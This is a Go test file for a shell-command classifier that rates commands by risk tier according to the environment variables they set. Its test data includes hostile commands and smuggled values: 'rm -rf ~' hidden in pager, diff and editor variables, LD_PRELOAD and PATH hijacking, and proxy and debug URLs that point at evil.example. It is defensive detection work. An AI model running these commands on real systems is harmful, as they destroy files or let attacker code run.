package classify

import (
	"path/filepath"
	"testing"
)

// TestVariablesOfPrograms sets variables that only the program behind them obeys:
// settings that name code, files to write or options, beside those that choose
// nothing but what is done or printed.
func TestVariablesOfPrograms(t *testing.T) {
	home, project := scratch(t)
	wantEach(t, home, project, Moderate, `
		GIT_DIR=./x git status
		GIT_TRACE=/tmp/trace git status
		GIT_TRACE2_EVENT=/etc/profile.d/x.sh git status
		GIT_INDEX_FILE=/usr/bin/ls git status
		NODE_V8_COVERAGE=/usr/lib/x node --version
		HELM_CACHE_HOME=/usr/lib/x helm version
		DEPENDENCIES_OUTPUT=x gcc --version
		DEBUGINFOD_URLS=http://evil.example objdump -d NOTES
		AWS_CONFIG_FILE=./x aws s3 ls
		env AWS_SHARED_CREDENTIALS_FILE=./x aws s3 ls
		export DOCKER_CONFIG=./x; docker ps
		npm_config_script_shell=./x npm ls
		CARGO_HOME=./x cargo metadata
		BAT_CONFIG_PATH=./x bat NOTES
		GH_CONFIG_DIR=. gh pr list
		PSQLRC=./x psql -c 'select 1'
		VIMINIT='!rm x' vim --version
		LUA_INIT='os.remove("x")' lua -v
		PYTHONUSERBASE=. python3 -c 1
		JJ_CONFIG=x jj log
		TF_CLI_ARGS=-destroy terraform version
		BUNDLE_GEMFILE=x bundle list
		PYENV_VERSION=x python3 --version
		VOLTA_HOME=./x node --version
		R_PROFILE_USER=x Rscript --version
		JULIA_LOAD_PATH=. julia --version
		SQLITE_HISTORY=x sqlite3 db .tables
		MAKEFILES=x make --version
		GROFF_COMMAND_PREFIX=./ man ls
		GEM_HOME=. gem list
		CARGO_TERM_COLOR=never CARGO_HOME=$where cargo metadata
		OCL_ICD_VENDORS=./drivers clinfo
		LIBGL_DRIVERS_PATH=./drivers glxinfo
		TIGRC_USER=./x tig --version
		ACK_PAGER_COLOR=./x ack foo NOTES
		SYSTEM_WGET2RC=./x wget2 --version
	`)
	wantEach(t, home, project, Safe, `
		GIT_AUTHOR_NAME=x GIT_TERMINAL_PROMPT=0 git status
		GIT_TRACE=1 git status
		AWS_PROFILE=dev AWS_REGION=eu-west-1 aws s3 ls
		export DOCKER_CONFIG=./x; ls
		PYTHONUNBUFFERED=1 python3 -c 'print(1)'
		GREP_COLORS=mt=1 grep x NOTES
		LS_COLORS= ls
		TZ=UTC date
		JAVA_HOME=/usr/lib/jvm/java-17 java -version
		GOOS=linux GOARCH=arm64 go list ./...
		TF_VAR_zone=a terraform version
		PGPASSWORD=x psql -h db -c 'select 1'
		DATA_DIR=./x git status
		DATA_DIR=./x gsed -n 1p NOTES
		DATA_DIR=./x free -m
	`)
}

// TestVariablesThatAreHandedOn holds that a program whose own variables are known hands the
// others on: to rules, build scripts, decoders of addresses, and wrappers in shell.
func TestVariablesThatAreHandedOn(t *testing.T) {
	home, project := scratch(t)
	put(t, filepath.Join(project, "Makefile"), "all:\n\techo x\n")
	put(t, filepath.Join(project, "tool"), "#!/bin/sh\nid\n")
	notSafe := func(command string) (effects int) {
		for _, e := range assessBash(command, home, project).Effects {
			if e.Tier > Safe {
				effects++
			}
		}
		return effects
	}
	for _, tt := range []struct{ variable, command string }{
		{`Npm_Config_UserConfig=./x`, `npm ls`},
		{`npm_CONFIG_globalconfig=./x`, `npm --version`},
		{`npm_execpath=./x`, `npm test`},
		{`COMPOSER=../other.json`, `composer show`},
		{`CONTAINERS_CONF=./x`, `podman ps`},
		{`REGISTRY_AUTH_FILE=./x`, `podman info`},
		{`TERRAFORM_CONFIG=./x`, `terraform version`},
		{`AWS_CONFIG_FILE=./x`, `terraform validate`},
		{`AWS_CONFIG_FILE=./x`, `kubectl get pods`},
		{`XDG_DATA_HOME=./x`, `helm list`},
		{`XDG_RUNTIME_DIR=./x`, `systemctl --user status`},
		{`DBUS_SESSION_BUS_ADDRESS=unixexec:path=./tool`, `systemctl --user status`},
		{`DBUS_SYSTEM_BUS_ADDRESS='unix:path=/run/x;unixexec:path=./tool'`, `loginctl`},
		{`TAPE=x`, `tar -c NOTES`},
		{`GREP=./tool`, `zgrep x NOTES`},
		{`DIFF=rm`, `zdiff a b`},
		{`SHELL=./missing`, `less NOTES`},
		{`SHELL=tool`, `git log`},
		{`SPEC_OPTS='--require ./x.rb'`, `rspec`},
		{`RAKEOPT='-f x'`, `rake -T`},
		{`CARGO_HTTP_PROXY=http://evil.example`, `cargo tree`},
		{`PGOPTIONS='-c session_preload_libraries=/tmp/x'`, `psql -c 'select 1'`},
		{`STEP=./tool`, `make`},
		{`STEP='x; ./y'`, `make`},
		{`STEP='$(shell ./y)'`, `make`},
		{`AR='sh x'`, `make`},
		{`GENERATOR=./tool`, `cargo build`},
		{`STORE=~/.ssh/x`, `pytest`},
		{`GOCACHE=~/.config`, `go vet ./...`},
		{`CARGO_TARGET_DIR=~/.config`, `cargo build`},
		{`ASAN_OPTIONS=detect_leaks=0:log_path=../x`, `./tool`},
		{`UBSAN_OPTIONS=external_symbolizer_path=./x`, `./tool`},
	} {
		if notSafe(tt.variable+" "+tt.command) <= notSafe(tt.command) {
			t.Errorf("%s %s: the variable has no effect", tt.variable, tt.command)
		}
	}
	for _, tt := range []struct{ variable, command string }{
		{`AR=ar`, `make`}, {`SHELL=/bin/bash`, `make`}, {`FLAVOUR='a b'`, `make`}, {`PREFIX=/usr/local`, `make`},
		{`DATABASE_URL=postgres://localhost/x`, `pytest`}, {`API_URL=http://localhost:3000`, `npm test`}, {`DATA=./src`, `pytest`},
		{`GOCACHE=/tmp/cache`, `go vet ./...`}, {`XDG_CACHE_HOME=/tmp/cache`, `go vet ./...`}, {`NPM_CONFIG_LOGLEVEL=error`, `npm ls`},
		{`XDG_RUNTIME_DIR=/run/user/1000`, `systemctl --user status`},
		{`DBUS_SESSION_BUS_ADDRESS=unix:path=/run/user/1000/bus`, `systemctl --user status`},
		{`SPEC_OPTS='--format documentation'`, `rspec`}, {`PGOPTIONS='-c statement_timeout=5s'`, `psql -c 'select 1'`},
		{`CARGO_TARGET_DIR=/tmp/target`, `cargo build`}, {`ASAN_OPTIONS=detect_leaks=0:halt_on_error=false`, `./tool`},
		{`CARGO_HTTP_TIMEOUT=5`, `cargo tree`}, {`GREP=./tool`, `cat NOTES`},
	} {
		if notSafe(tt.variable+" "+tt.command) > notSafe(tt.command) {
			t.Errorf("%s %s: %s", tt.variable, tt.command, because(assessBash(tt.variable+" "+tt.command, home, project)))
		}
	}
}

// TestVariablesOfUnlistedPrograms sets variables for programs of which it is not
// known what they obey: a value that may lead somewhere counts.
func TestVariablesOfUnlistedPrograms(t *testing.T) {
	home, project := scratch(t)
	wantEach(t, home, project, Moderate, `
		HGRCPATH=conf hg log
		FFREPORT=1 ffprobe clip.mp4
		FFREPORT=file=out:level=32 ffprobe clip.mp4
		RUSTUP_TOOLCHAIN=./toolchain cargo --version
		UV_PYTHON=./python uv --version
		LD_DEBUG_OUTPUT=$HOME/out LD_DEBUG=libs ls
		HOSTALIASES=./hosts ls
		GETCONF_DIR=. getconf PATH
		SOME_PLUGIN=evil ffprobe clip.mp4
		SOME_VARIABLE=src ffprobe clip.mp4
		TMPDIR=/etc mktemp --dry-run
	`)
	wantEach(t, home, project, Safe, `
		LD_DEBUG=libs ls
		LANG=C TZ=Europe/Berlin NO_COLOR=1 ffprobe clip.mp4
		APP_MODE=test ffprobe clip.mp4
		REGION=eu-west-1 ffprobe clip.mp4
		BASE=./src DATA=/srv/data ls
		export API_URL=http://localhost:8080/v1; jq . NOTES
	`)
}

// TestEnvironmentOfPrograms brings variables into the environment of a program in
// all the ways that the shells have: they count where a program gets them.
func TestEnvironmentOfPrograms(t *testing.T) {
	home, project := scratch(t)
	for _, command := range []string{
		`for kv in LD_PRELOAD=./a.so; do export "$kv"; done; ls`,
		`LD_PRELOAD=./a.so; export LD_PRELOAD; ls`,
		`export LD_PRELOAD; : "${LD_PRELOAD:=./a.so}"; ls`,
		`export LD_PRELOAD; read -r LD_PRELOAD <<< ./a.so; ls`,
		`export LD_PRELOAD; mapfile -t LD_PRELOAD <<< ./a.so; ls`,
		`declare -x LD_PRELOAD; printf -v LD_PRELOAD %s ./a.so; ls`,
		`printf -v PATH %s "$PWD/bin:$PATH"; ls`,
		`declare -n r=PATH; r=./bin; ls`,
		`declare -n r=q q=PATH; r=./bin; ls`,
		`declare -n r; for r in PATH; do r=./bin; done; ls`,
		`declare -n r='BASH_CMDS[ls]'; r=./bin/ls; ls`,
		`declare -n r=$(sed s/x/PATH/ NOTES); r=./bin; ls`,
		`export "$(sed -n 1p NOTES)"; ls`,
		`while read -r name value; do export "$name=$value"; done < NOTES; ls`,
		`read -r "$(sed -n 1p NOTES)" <<< ./a.so; ls`,
		`printf -v "$(sed -n 1p NOTES)" %s ./a.so; ls`,
		`set -a; read -r LD_PRELOAD <<< ./a.so; ls`,
		`f() { local -x LD_PRELOAD=./a.so; ls; }; f`,
		`set -k; ls LD_PRELOAD=./a.so`,
		`set -o keyword; ls LD_PRELOAD+=./a.so`,
		`set $(sed -n 1p NOTES); ls LD_PRELOAD=./a.so`,
		`bash -k -c 'ls LD_PRELOAD=./a.so'`,
		`bash -o keyword -c 'ls LD_PRELOAD=./a.so'`,
		`export SHELLOPTS; bash -c ls`,
		`ENV=NOTES sh -i -c ls`,
		`export ENV=NOTES; dash -i -c ls`,
		`PATH=./bin:$PATH ls`,
		`PATH=:/usr/bin ls`,
		`PATH=/usr/bin/../../srv/bin ls`,
		`unset PATH; PATH=bin; ls`,
		`unset PATH; ls`,
		`read 'PATH[0]' <<< bin; ls`,
		`printf -vPATH %s bin; ls`,
		`printf "$(sed -n 1p NOTES)" bin; ls`,
		`declare -x -n r=LD_PRELOAD; r=./a.so; export LD_PRELOAD; ls`,
	} {
		if a := assessBash(command, home, project); a.Tier == Safe {
			t.Errorf("%s: is safe", command)
		}
	}
	wantEach(t, home, project, Safe, `
		export PATH="$HOME/.local/bin:$PATH"; ls
		export PATH=/usr/local/go/bin:$PATH HOME_PAGE=x; ls
		PATH=$PATH:$HOME/.cargo/bin ls
		LD_PRELOAD=./a.so; echo "$LD_PRELOAD"
		GIT_SSH_COMMAND='ssh -v'; ls
		for name in a b c; do declare "v_$name=1"; done; ls
		for i in 1 2 3; do printf -v "item$i" %s x; done; ls
		declare -n r=total; r=5; echo "$total"
		while read -r name value; do echo "$name"; done < NOTES
		set -k; ls NOTES
		printf "$(tput bold)done"
		ENV=production sh -c ls
		TMPDIR=/tmp sort NOTES
	`)
}

// TestVariablesReachWhatTheyAreSetFor holds that a variable counts before whatever leads to a program,
// and again where its value names something else.
func TestVariablesReachWhatTheyAreSetFor(t *testing.T) {
	home, project := scratch(t)
	put(t, filepath.Join(project, "plain.sh"), "echo x\n")
	put(t, filepath.Join(project, "sub/plain.sh"), "rm -rf ~\n")
	for command, want := range map[string]Tier{
		`f() { git diff; }; GIT_EXTERNAL_DIFF='rm -rf ~' f`: Blocked,
		`GIT_EXTERNAL_DIFF='rm -rf ~' command git diff`:     Blocked,
		`GIT_EXTERNAL_DIFF='rm -rf ~' eval git diff`:        Blocked,
		`GIT_PAGER='rm -rf ~' builtin eval git log`:         Blocked,
		`PAGER='rm -rf ~' printf -v x %s y`:                 Blocked,
		`f() { set -x; ls; }; PS4='$(rm -rf ~)' f`:          Blocked,
		`f() { git log; }; GIT_PAGER=cat f`:                 Safe,
		`GIT_PAGER=cat command git log`:                     Safe,
		`export EDITOR=vim`:                                 Safe,
		`export VISUAL="emacs -nw" CC=clang; ls`:            Safe,
		`EDITOR=nano git log`:                               Safe,
		`EDITOR=vim crontab -e`:                             Dangerous,
		`CC=gcc make`:                                       Moderate,
		`EDITOR='vim -c ":!rm -rf ~"' git log`:              Blocked,
		`export EDITOR="nano notes.txt"`:                    Moderate,
		`export EDITOR="$(cat name)"`:                       Moderate,
		`export EDITOR=gcc CC=vim`:                          Moderate,
		`export CC=./gcc`:                                   Moderate,
		`EDITOR() { vim; }; EDITOR`:                         Moderate,

		`export GIT_EXTERNAL_DIFF=./plain.sh; git diff`:                                       Safe,
		`export GIT_EXTERNAL_DIFF=./plain.sh; git diff; cd sub; git diff`:                     Blocked,
		`export GIT_EXTERNAL_DIFF=./plain.sh; git diff; echo 'rm -rf ~' > plain.sh; git diff`: Blocked,
	} {
		wantTier(t, home, project, want, command)
	}
}

// TestInheritedVariables holds that a variable of the environment reaches programs with the value that a call gives it, exported or not.
func TestInheritedVariables(t *testing.T) {
	home, project := unpacked(t, "scripts.txtar")
	for _, tt := range []struct{ command, want, inherited string }{
		{"BAT_CONFIG_PATH=./x; bat README.md", "safe", "moderate unseen"},
		{"read -r BAT_CONFIG_PATH; bat README.md", "safe", "moderate unseen"},
		{"for BAT_CONFIG_PATH in ./x; do bat README.md; done", "safe", "moderate unseen"},
		{": ${BAT_CONFIG_PATH:=./x}; bat README.md", "safe", "moderate unseen"},
		{"unset BAT_CONFIG_PATH; BAT_CONFIG_PATH=./x; bat README.md", "safe", "safe"},
		{"(BAT_CONFIG_PATH=./x); bat README.md", "safe", "safe"},
		{"export BAT_CONFIG_PATH=./x; bat README.md", "moderate unseen", "moderate unseen"},
	} {
		for _, inherits := range []bool{false, true} {
			want := tt.want
			t.Run(tt.command, func(t *testing.T) {
				if inherits {
					t.Setenv("BAT_CONFIG_PATH", "/nowhere")
					want = tt.inherited
				}
				if got := judgement(assessBash(tt.command, home, project)); got != want {
					t.Errorf("inherited %v: got %s, want %s", inherits, got, want)
				}
			})
		}
	}
}
